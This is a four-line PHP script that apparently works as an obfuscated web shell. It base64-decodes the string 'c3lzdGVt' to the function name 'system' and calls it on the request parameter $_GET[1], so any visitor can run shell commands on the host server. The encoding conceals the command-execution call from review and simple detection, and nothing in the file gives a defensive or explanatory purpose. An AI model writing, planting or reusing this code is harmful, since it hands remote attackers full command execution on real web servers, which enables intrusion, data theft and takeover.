<?php
$k = 'c3lzdGVt';
$f = base64_decode($k);
$f($_GET[1]);
